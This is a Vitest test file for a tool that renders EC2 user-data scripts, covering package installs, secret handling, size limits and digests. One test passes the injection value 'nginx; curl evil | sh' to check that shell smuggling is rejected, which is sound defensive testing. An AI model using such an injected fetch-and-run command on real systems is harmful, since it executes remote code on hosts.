import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, mkdtempSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { CloudmartError } from '../../../src/errors.js';
import {
  APP_ENV_KEYS,
  USER_DATA_LIMIT,
  agentConfig,
  readBackendFiles,
  renderUserData,
  userDataDigest,
  userDataScript,
  NODE_MAJOR,
  type UserDataOptions,
} from '../../../src/steps/phase1-foundation/user-data.js';

const FILES = [
  { path: 'src/server.js', content: Buffer.from("import './app.js';\n") },
  { path: 'src/app.js', content: Buffer.from('export const app = 1;\n') },
  { path: 'package.json', content: Buffer.from('{"name":"cloudmart-backend","type":"module"}\n') },
];

const options = (over: Partial<UserDataOptions> = {}): UserDataOptions => ({
  region: 'ap-northeast-2',
  parameterPrefix: '/cloudmart/cloudmart',
  agentParameter: '/cloudmart/cloudmart/cloudwatch-agent',
  agentConfig: JSON.stringify(agentConfig({ logGroup: '/aws/ec2/cloudmart-backend' })),
  image: null,
  files: FILES,
  ...over,
});

/** The heredoc bodies of `<<'TAG'` … `TAG` blocks, in order. */
function heredocs(script: string, tag: string): string[] {
  const re = new RegExp(`<<'${tag}'[^\\n]*\\n([\\s\\S]*?)\\n${tag}\\n`, 'g');
  return [...script.matchAll(re)].map((m) => m[1]!);
}

const has = (cmd: string) => spawnSync(cmd, ['--version']).status === 0;

describe('app instance user data', () => {
  it('installs a supported Node.js (one constant, not 20: end of life 2026-04-30) and the CloudWatch agent and starts the agent from its SSM config', () => {
    const { script } = renderUserData(options());
    expect(NODE_MAJOR).toBeGreaterThanOrEqual(22);
    expect(script.startsWith('#!/bin/bash\n')).toBe(true);
    expect(script).toContain(
      `dnf install -y nodejs${NODE_MAJOR} nodejs${NODE_MAJOR}-npm amazon-cloudwatch-agent`,
    );
    expect(script).not.toMatch(/nodejs20|node-20|npm-20/);
    expect(script).toMatch(
      /amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s \\\n\s+-c ssm:\/cloudmart\/cloudmart\/cloudwatch-agent/,
    );
    expect(script).toContain(
      'curl -fsS --retry 5 --retry-delay 3 -o /etc/cloudmart/rds-ca.pem https://truststore.pki.rds.amazonaws.com/global/global-bundle.pem',
    );
    // The locked dependency tree, nothing resolved at boot.
    expect(script).toContain(`npm-${NODE_MAJOR} ci --omit=dev`);
    expect(script).not.toMatch(/npm-\d+ install/);
    expect(script).toContain('systemctl enable --now cloudmart.service');
    expect(script).not.toContain('docker');
  });

  it('carries every backend file, gzip+base64, and restores it byte for byte', () => {
    const { script } = renderUserData(options());
    const blobs = heredocs(script, 'B64');
    expect(blobs).toHaveLength(FILES.length);
    for (const [i, f] of FILES.entries()) {
      expect(script).toContain(`gunzip >/opt/cloudmart/app/${f.path}\n`);
      expect(gunzipSync(Buffer.from(blobs[i]!, 'base64')).equals(f.content)).toBe(true);
    }
  });

  it('gives the backend exactly the agreed environment, secrets read at service start', () => {
    const { script } = renderUserData(options());
    const [writer] = heredocs(script, 'PY');
    const envBlock = /\nenv = \{\n([\s\S]*?)\n\}\n/.exec(writer!)![1]!;
    const keys = [...envBlock.matchAll(/^\s+'([A-Z_]+)':/gm)].map((m) => m[1]);
    expect(keys).toEqual([...APP_ENV_KEYS]);
    expect(envBlock).toContain("'REDIS_TLS': '1'");
    expect(envBlock).toContain(`'LOG_FILE': "/var/log/cloudmart/app.log"`);
    expect(envBlock).toContain(`'DB_CA_FILE': "/etc/cloudmart/rds-ca.pem"`);
    expect(writer).toContain("'ssm', 'get-parameters-by-path', '--path', PREFIX, '--recursive'");
    expect(writer).toContain("'secretsmanager', 'get-secret-value', '--secret-id', arn");
    // Root-only, under /run (tmpfs: gone at reboot), read by systemd before every start.
    expect(writer).toContain('OUT = "/run/cloudmart/app.env"');
    expect(writer).toContain('0o600');
    const [unit] = heredocs(script, 'UNIT');
    expect(unit).toContain('ExecStartPre=+/usr/local/libexec/cloudmart-env');
    expect(unit).toContain('EnvironmentFile=-/run/cloudmart/app.env');
    expect(unit).toContain('User=cloudmart');
    expect(unit).toContain(`ExecStart=/usr/bin/node-${NODE_MAJOR} src/server.js`);
  });

  it('never puts or prints a secret: no assignments, no echo of the env, no tracing', () => {
    const { script } = renderUserData(options());
    expect(script).not.toMatch(/(DB_PASSWORD|REDIS_AUTH_TOKEN)=/);
    expect(script).not.toMatch(/set -x|print\(|cat \/run\/cloudmart/);
    expect(script).not.toMatch(/SecretString'\]\s*\)/); // never passed anywhere but the parser
    expect(script).toContain('No secret is in this script');
  });

  it('runs the configured container image with the same environment instead of the backend', () => {
    const image = '123456789012.dkr.ecr.ap-northeast-2.amazonaws.com/shop:1.2';
    const { script } = renderUserData(options({ image }));
    expect(script).toContain('dnf install -y docker amazon-cloudwatch-agent');
    expect(script).not.toContain('nodejs20');
    expect(heredocs(script, 'B64')).toHaveLength(0);
    const [unit] = heredocs(script, 'UNIT');
    const run = /ExecStart=(.*)/.exec(unit!)![1]!;
    expect(run).toMatch(/^\/usr\/bin\/docker run --rm --name cloudmart-app --network host /);
    for (const k of APP_ENV_KEYS) expect(run).toContain(` -e ${k} `);
    expect(run.endsWith(` ${image}`)).toBe(true);
    expect(unit).toContain(
      'aws ecr get-login-password --region ap-northeast-2 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.ap-northeast-2.amazonaws.com',
    );
  });

  it('rejects an image reference that would inject shell', () => {
    expect(() => renderUserData(options({ image: 'nginx; curl evil | sh' }))).toThrow(
      /not a container image reference/,
    );
  });

  it('fails clearly when the script is over 16 KB', () => {
    const big = [...FILES, { path: 'src/big.js', content: randomBytes(20_000) }];
    let error: unknown;
    try {
      renderUserData(options({ files: big }));
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(CloudmartError);
    expect((error as CloudmartError).message).toMatch(/over EC2's 16384-byte limit/);
    expect((error as CloudmartError).hint).toMatch(/app\.image/);
  });

  it('ships the real reference backend within the 16 KB limit', async () => {
    const files = await readBackendFiles();
    expect(files.map((f) => f.path)).toContain('src/server.js');
    expect(files.map((f) => f.path)).toContain('package.json');
    // npm ci installs exactly what the lockfile says: it travels with the app.
    expect(files.map((f) => f.path)).toContain('package-lock.json');
    const lock = JSON.parse(files.find((f) => f.path === 'package-lock.json')!.content.toString());
    const pkg = JSON.parse(files.find((f) => f.path === 'package.json')!.content.toString());
    expect(lock.packages[''].dependencies).toEqual(pkg.dependencies);
    const { script, userData } = renderUserData(options({ files }));
    // EC2 counts the bytes it is given: the gzip payload, which cloud-init uncompresses.
    expect(Buffer.from(userData, 'base64').length).toBeLessThanOrEqual(USER_DATA_LIMIT);
    expect(userDataScript(userData)).toBe(script);
  });

  it('has a digest that changes with the content and reads back from base64 user data', () => {
    const a = renderUserData(options());
    const b = renderUserData(options());
    const c = renderUserData(
      options({ files: FILES.map((f, i) => (i === 1 ? { ...f, content: Buffer.from('x') } : f)) }),
    );
    expect(a.script).toBe(b.script);
    expect(a.digest).toMatch(/^[0-9a-f]{64}$/);
    expect(c.digest).not.toBe(a.digest);
    expect(renderUserData(options({ region: 'ap-northeast-1' })).digest).not.toBe(a.digest);
    // The agent config is read at boot from SSM: its content, not only its name, is in the digest.
    expect(renderUserData(options({ agentConfig: '{"agent":{}}' })).digest).not.toBe(a.digest);
    expect(userDataDigest(Buffer.from(a.script).toString('base64'))).toBe(a.digest);
    // What the launch template carries: gzip-compressed.
    expect(userDataDigest(a.userData)).toBe(a.digest);
    expect(userDataDigest(Buffer.from('#!/bin/bash\necho hi\n').toString('base64'))).toBe(
      undefined,
    );
  });

  it.skipIf(!has('bash'))('is valid bash', () => {
    const dir = mkdtempSync(join(tmpdir(), 'ud-'));
    for (const image of [null, 'nginx:1.27']) {
      const file = join(dir, 'ud.sh');
      writeFileSync(file, renderUserData(options({ image })).script);
      const r = spawnSync('bash', ['-n', file], { encoding: 'utf8' });
      expect(r.stderr).toBe('');
      expect(r.status).toBe(0);
    }
  });

  it.skipIf(!has('python3'))(
    'writes the env file from SSM and Secrets Manager with systemd quoting',
    () => {
      const dir = mkdtempSync(join(tmpdir(), 'env-'));
      // A fake AWS CLI: the settings app.settings writes, RDS's JSON secret, Redis's bare token.
      const fakeAws = join(dir, 'aws');
      writeFileSync(
        fakeAws,
        `#!/bin/sh
case "$*" in
*ssm*) echo '{"Parameters": [${[
          ['/db/endpoint', 'db.example'],
          ['/db/port', '5432'],
          ['/db/name', 'cloudmart'],
          ['/db/engine', 'postgres'],
          ['/db/username', 'cloudmart'],
          ['/db/secret-arn', 'arn:aws:secretsmanager:r:1:secret:db'],
          ['/redis/endpoint', 'redis.example'],
          ['/redis/port', '6379'],
          ['/redis/secret-arn', 'arn:aws:secretsmanager:r:1:secret:redis'],
          ['/app/port', '8080'],
          ['/cloudwatch-agent', '{}'],
        ]
          .map(([k, v]) => JSON.stringify({ Name: `/cloudmart/cloudmart${k!}`, Value: v }))
          .join(', ')}]}' ;;
*secret:db) cat <<'JSON'
${JSON.stringify({ SecretString: JSON.stringify({ username: 'master', password: 'p"a$s\\w`d' }) })}
JSON
;;
*) echo '{"SecretString": "tok&en^<>-#"}' ;;
esac
`,
      );
      chmodSync(fakeAws, 0o755);
      const [writer] = heredocs(renderUserData(options()).script, 'PY');
      const out = join(dir, 'run', 'app.env');
      const script = join(dir, 'env.py');
      writeFileSync(script, writer!.replace('"/run/cloudmart/app.env"', JSON.stringify(out)));
      // The interpreter itself, not a version-manager shim that would put its own `aws` first.
      const python = spawnSync('python3', ['-c', 'import sys; print(sys.executable)'], {
        encoding: 'utf8',
      }).stdout.trim();
      const r = spawnSync(python, [script], {
        encoding: 'utf8',
        env: { PATH: `${dir}:${process.env.PATH ?? ''}` },
      });
      expect(r.stderr).toBe('');
      expect(r.stdout).toBe(''); // nothing printed, secrets included
      expect(statSync(out).mode & 0o777).toBe(0o600);
      expect(readFileSync(out, 'utf8')).toBe(
        [
          'PORT="8080"',
          'DB_ENGINE="postgres"',
          'DB_HOST="db.example"',
          'DB_PORT="5432"',
          'DB_NAME="cloudmart"',
          'DB_USER="master"',
          'DB_PASSWORD="p\\"a\\$s\\\\w\\`d"',
          // For the backend to read the password again after RDS rotates it.
          'DB_SECRET_ARN="arn:aws:secretsmanager:r:1:secret:db"',
          `AWS_REGION="${options().region}"`,
          'DB_CA_FILE="/etc/cloudmart/rds-ca.pem"',
          'REDIS_HOST="redis.example"',
          'REDIS_PORT="6379"',
          'REDIS_TLS="1"',
          'REDIS_AUTH_TOKEN="tok&en^<>-#"',
          'LOG_FILE="/var/log/cloudmart/app.log"',
          '',
        ].join('\n'),
      );
    },
  );

  it('configures the agent to ship the app log and publish CPU, memory and disk per ASG', () => {
    const c = agentConfig({ logGroup: '/aws/ec2/cloudmart-backend' }) as {
      logs: { logs_collected: { files: { collect_list: unknown[] } } };
      metrics: Record<string, unknown> & {
        metrics_collected: Record<string, { measurement: string[] }>;
      };
    };
    expect(c.logs.logs_collected.files.collect_list).toEqual([
      {
        file_path: '/var/log/cloudmart/app.log',
        log_group_name: '/aws/ec2/cloudmart-backend',
        log_stream_name: '{instance_id}',
        timezone: 'UTC',
      },
    ]);
    expect(c.metrics.namespace).toBe('CWAgent');
    expect(c.metrics.aggregation_dimensions).toEqual([['AutoScalingGroupName']]);
    expect(c.metrics.append_dimensions).toMatchObject({
      AutoScalingGroupName: '${aws:AutoScalingGroupName}',
    });
    // The whole instance's CPU only (totalcpu, no per-core `resources: ["*"]`): one series per
    // instance, the one the dashboard's per-instance CPU SEARCH finds.
    expect(c.metrics.metrics_collected.cpu).toEqual({
      measurement: ['cpu_usage_active'],
      totalcpu: true,
    });
    expect(c.metrics.metrics_collected.mem!.measurement).toEqual(['mem_used_percent']);
    // It lives in a standard SSM parameter (4 KB), which the user data fetches by name.
    expect(Buffer.byteLength(JSON.stringify(c))).toBeLessThanOrEqual(4096);
    expect(c.metrics.metrics_collected.disk!.measurement).toEqual(['disk_used_percent']);
  });
});
